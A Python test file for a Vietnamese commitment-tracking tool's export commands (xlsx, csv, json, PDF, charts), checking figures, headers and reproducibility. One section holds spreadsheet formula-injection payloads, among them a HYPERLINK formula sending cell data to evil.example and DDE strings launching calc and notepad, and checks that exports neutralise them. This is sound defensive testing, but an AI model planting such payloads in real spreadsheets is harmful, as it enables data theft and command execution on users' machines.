"""export (xlsx, csv, json), PDF and the chart: the same figures as `status`, reproducibly."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.conftest import EMBEDDED_DATA, run
from tests.docx_reading import paragraphs


@pytest.fixture(scope="module")
def status_2019() -> dict:
    return json.loads(run("status", "2019", "--data", EMBEDDED_DATA, "--json").stdout)


def test_xlsx_sheets_headers_and_figures(tmp_path: Path, status_2019: dict):
    out = tmp_path / "ck.xlsx"
    r = run("export", "2019", "--data", EMBEDDED_DATA, "--out", out)
    assert r.exit_code == 0, r.stderr
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Nội dung cam kết", "Đơn vị", "Chỉ tiêu"]
    items = book["Nội dung cam kết"]
    assert items.freeze_panes == "A2"
    headers = [c.value for c in items[1]]
    assert headers[:6] == [
        "Khối",
        "Mã đơn vị",
        "Đơn vị",
        "Nhóm nhiệm vụ",
        "Mã nội dung",
        "Nội dung cam kết",
    ]
    assert items.max_row - 1 == status_2019["total"]
    statuses = [row[7] for row in items.iter_rows(min_row=2, values_only=True)]
    assert statuses.count("hoàn thành") == status_2019["completed"]
    assert statuses.count("tạm dừng") == status_2019["paused"]
    late = [row[8] for row in items.iter_rows(min_row=2, values_only=True)]
    assert late.count("chậm") == status_2019["late"]
    assert 60 <= items.column_dimensions["F"].width < 61  # with Excel's own padding
    units = book["Đơn vị"]
    assert [c.value for c in units[units.max_row]] == [
        "Tổng cộng",
        137,
        status_2019["total"],
        status_2019["carried_out"],
        status_2019["completed"],
        status_2019["paused"],
        status_2019["late"],
        status_2019["not_started"],
    ]
    indicators = book["Chỉ tiêu"]
    assert indicators.max_row - 1 == 24
    assert [row[6] for row in indicators.iter_rows(min_row=2, values_only=True)].count("đạt") == 24
    again = tmp_path / "again.xlsx"
    run("export", "2019", "--data", EMBEDDED_DATA, "--out", again)
    assert again.read_bytes() == out.read_bytes()


def test_csv_has_a_bom_for_excel(tmp_path: Path, status_2019: dict):
    out = tmp_path / "ck.csv"
    assert (
        run("export", "2019", "--data", EMBEDDED_DATA, "--format", "csv", "--out", out).exit_code
        == 0
    )
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0][5] == "Nội dung cam kết" and len(rows) - 1 == status_2019["total"]


def test_json_rows(tmp_path: Path, status_2019: dict):
    out = tmp_path / "ck.json"
    run(
        "export",
        "2019",
        "--data",
        EMBEDDED_DATA,
        "--format",
        "json",
        "--out",
        out,
        "--quarter",
        "4",
    )
    body = json.loads(out.read_text(encoding="utf-8"))
    assert body["as_of"] == "2019-12-31"
    assert sum(r["status"] == "done" for r in body["items"]) == status_2019["completed"]
    paused = [r for r in body["items"] if r["status"] == "paused"]
    assert paused[0]["unit"] == "so-xay-dung" and "Luật Quy hoạch" in paused[0]["reason"]
    assert run("export", "2019", "--data", EMBEDDED_DATA, "--format", "pdf").exit_code == 1


def test_chart_in_the_report_and_from_status(tmp_path: Path):
    png = tmp_path / "chart.png"
    assert run("status", "2019", "--data", EMBEDDED_DATA, "--chart", png).exit_code == 0
    assert png.read_bytes().startswith(b"\x89PNG")
    again = tmp_path / "again.png"
    run("status", "2019", "--data", EMBEDDED_DATA, "--chart", again)
    assert again.read_bytes() == png.read_bytes()
    out = tmp_path / "bc.docx"
    run("report", "2019", "--data", EMBEDDED_DATA, "--date", "2020-01-05", "--out", out)
    with zipfile.ZipFile(out) as z:
        media = [z.read(n) for n in z.namelist() if n.startswith("word/media/")]
        # the chart by block, as status draws it, and the indicators' chart
        assert len(media) == 2 and png.read_bytes() in media
    assert "2- Biểu đồ kết quả theo khối và các chỉ tiêu kinh tế - xã hội" in paragraphs(out)


def test_pdf_without_libreoffice_says_how_to_get_it(tmp_path: Path, monkeypatch):
    monkeypatch.setattr("camket.documents.render.pdf.soffice", lambda: None)
    r = run("report", "2019", "--data", EMBEDDED_DATA, "--out", tmp_path / "r.docx", "--pdf")
    assert r.exit_code == 1 and "libreoffice" in r.stderr.lower()
    assert (tmp_path / "r.docx").is_file()


@pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="LibreOffice (soffice) is not installed; .ci/run installs it",
)
def test_pdf_of_report_and_sheets(tmp_path: Path):
    r = run("report", "2019", "--data", EMBEDDED_DATA, "--out", tmp_path / "r.docx", "--pdf")
    assert r.exit_code == 0, r.stderr
    assert (tmp_path / "r.pdf").read_bytes().startswith(b"%PDF")
    r = run("sheets", "2019", "dong-ha", "--data", EMBEDDED_DATA, "--out", tmp_path, "--pdf")
    assert r.exit_code == 0, r.stderr
    assert (tmp_path / "cam-ket-2019-dong-ha.pdf").read_bytes().startswith(b"%PDF")


def test_format_from_the_out_suffix(tmp_path: Path):
    r = run("export", "2019", "--data", EMBEDDED_DATA, "--out", tmp_path / "bang.csv")
    assert r.exit_code == 0 and (tmp_path / "bang.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    r = run("export", "2019", "--data", EMBEDDED_DATA, "--out", tmp_path / "bang.txt")
    assert r.exit_code == 1 and "'txt'" in r.stderr and not (tmp_path / "bang.txt").exists()


# --- texts that look like formulas --------------------------------------------------------

HOSTILE = {
    "item": '=HYPERLINK("http://evil.example/?d="&A2,"Chi tiết")',
    "note": "+cmd|' /C calc'!A0",
    "reason": "-2+3+cmd|' /C notepad'!'A1'",
    "unit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "block": "\t=1+1",
    "group": "\r=2+2",
    "indicator": "=1+1",
    "measure": "=A1*10",
}


def hostile_folder(mini: Path) -> Path:
    """Every kind of text a row carries, each starting like a formula; and negative numbers."""

    def edit(rel: str, old: str, new: str) -> None:
        path = mini / rel
        text = path.read_text(encoding="utf-8")
        assert old in text, old
        path.write_text(text.replace(old, new, 1), encoding="utf-8")

    quoted = {k: json.dumps(v, ensure_ascii=False) for k, v in HOSTILE.items()}
    dong_ha = "2019/commitments/dong-ha.yaml"
    edit(
        dong_ha,
        "text: Hoàn thành giải phóng mặt bằng đường Hùng Vương kéo dài",
        "text: " + quoted["item"],
    )
    edit(
        dong_ha,
        "- {date: 2019-06-20, status: done}",
        "- {date: 2019-06-20, status: done, note: " + quoted["note"] + "}",
    )
    edit(dong_ha, "title: Phát triển kinh tế - xã hội", "title: " + quoted["group"])
    edit(
        "2019/commitments/so-xay-dung.yaml",
        "reason: Tích hợp vào Quy hoạch tỉnh",
        "reason: " + quoted["reason"],
    )
    edit(
        "2019/commitments/so-xay-dung.yaml",
        '{plan: 31, actual: 31.2, unit: "%"}',
        "{plan: -5, actual: -3.5, unit: " + quoted["measure"] + ", better: lower}",
    )
    edit("units.yaml", "name: Huyện ủy Cam Lộ", "name: " + quoted["unit"])
    edit("units.yaml", "name: Các sở, ngành", "name: " + quoted["block"])
    edit("2019/year.yaml", "name: Tỷ lệ hộ nghèo,", "name: " + quoted["indicator"] + ",")
    edit("2019/year.yaml", "plan: 7.6, actual: 7.05", "plan: -7.6, actual: -7.05")
    assert run("validate", "--data", mini).exit_code == 0
    return mini


def test_xlsx_texts_are_never_formulas(mini: Path, tmp_path: Path):
    hostile_folder(mini)
    out = tmp_path / "x.xlsx"
    r = run("export", "2019", "--data", mini, "--out", out)
    assert r.exit_code == 0, r.stderr
    book = openpyxl.load_workbook(out)
    texts = set()
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if not isinstance(cell.value, str):
                    continue
                # Excel's escape of a control character (_x000D_ for a CR), read as Excel does
                value = re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m[1], 16)), cell.value)
                texts.add(value.strip(" "))
                assert cell.data_type == "s", (sheet.title, cell.coordinate)
                if value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    assert set(HOSTILE.values()) <= texts
    # the file itself: no formula anywhere, every text that starts like one a string cell
    from lxml import etree

    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    starts = 0
    with zipfile.ZipFile(out) as z:
        strings = [
            "".join(si.itertext())
            for si in etree.fromstring(z.read("xl/sharedStrings.xml")).iter(f"{main}si")
        ]
        for name in z.namelist():
            if not name.startswith("xl/worksheets/sheet"):
                continue
            root = etree.fromstring(z.read(name))
            assert root.find(f".//{main}f") is None, name
            for c in root.iter(f"{main}c"):
                value = "".join(c.itertext())
                if c.get("t") is None or c.get("t") == "n":
                    if value:
                        float(value)  # a number cell holds a number, negative ones included
                    continue
                assert c.get("t") == "s", (name, c.get("r"))  # a text is a string, always
                if strings[int(value)].startswith(("=", "+", "-", "@", "\t", "_x000D_")):
                    starts += 1
    assert starts >= len(HOSTILE)
    # negative numbers are numbers
    items = book["Nội dung cam kết"]
    headers = [c.value for c in items[1]]
    plans = [row[headers.index("Chỉ tiêu KH")] for row in items.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in plans if c.value is not None] == [(-5.0, "n")]
    ratios = [row[3].value for row in book["Chỉ tiêu"].iter_rows(min_row=2)]
    assert -7.6 in ratios


def test_csv_texts_start_with_a_quote_numbers_do_not(mini: Path, tmp_path: Path):
    hostile_folder(mini)
    out = tmp_path / "x.csv"
    r = run("export", "2019", "--data", mini, "--format", "csv", "--out", out)
    assert r.exit_code == 0, r.stderr
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    for text in HOSTILE.values():
        if text in ("=1+1",):  # the indicator's name is not in the items' rows
            continue
        assert "'" + text in cells, text
        assert text not in cells, text
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    headers = rows[0]
    plan = [
        row[headers.index("Chỉ tiêu KH")] for row in rows[1:] if row[headers.index("Chỉ tiêu KH")]
    ]
    assert plan == ["-5"]  # a number, as Excel reads it: no quote
    assert [
        row[headers.index("Chỉ tiêu TH")] for row in rows[1:] if row[headers.index("Chỉ tiêu TH")]
    ] == ["-3,5"]


def test_an_id_cannot_start_like_a_formula(mini: Path, tmp_path: Path):
    path = mini / "2019/commitments/cam-lo.yaml"
    path.write_text(
        path.read_text(encoding="utf-8").replace("id: cam-lo-2019-01", 'id: "-1+cam-lo"'),
        encoding="utf-8",
    )
    out = tmp_path / "x.csv"
    r = run("export", "2019", "--data", mini, "--format", "csv", "--out", out)
    assert r.exit_code == 1 and "[E019]" in r.stderr
    # the file with the refused id is left out whole: the id reaches no cell
    assert "Bỏ qua 1 đơn vị có tệp lỗi: Huyện ủy Cam Lộ" in r.stderr
    text = out.read_text(encoding="utf-8-sig")
    assert "-1+cam-lo" not in text and "cam-lo" not in text and "dong-ha-2019-01" in text


def _strict(name: str) -> None:
    raise ValueError(f"not JSON: {name}")


def test_json_outputs_are_strict_json(mini: Path, tmp_path: Path):
    """Python's json.loads reads NaN and Infinity; no other JSON reader does."""
    hostile_folder(mini)
    out = tmp_path / "x.json"
    assert run("export", "2019", "--data", mini, "--format", "json", "--out", out).exit_code == 0
    body = json.loads(out.read_text(encoding="utf-8"), parse_constant=_strict)
    assert {r["text"] for r in body["items"]} >= {HOSTILE["item"]}
    for args in (
        ("status", "2019", "--json"),
        ("status", "2019", "--json", "--compare", "2019-03-31"),
        ("validate", "--json"),
    ):
        r = run(*args, "--data", mini)
        assert r.exit_code == 0, (args, r.stderr)
        json.loads(r.stdout, parse_constant=_strict)
    path = mini / "2019/year.yaml"
    path.write_text(
        path.read_text(encoding="utf-8").replace("plan: 2200", "plan: .inf"), encoding="utf-8"
    )
    for fmt in ("json", "csv", "xlsx"):
        r = run("export", "2019", "--data", mini, "--format", fmt, "--out", tmp_path / f"y.{fmt}")
        assert r.exit_code == 1 and "[E015]" in r.stderr
    r = run("validate", "--data", mini, "--json")
    assert r.exit_code == 1
    assert [p["code"] for p in json.loads(r.stdout, parse_constant=_strict)] == ["E015"]
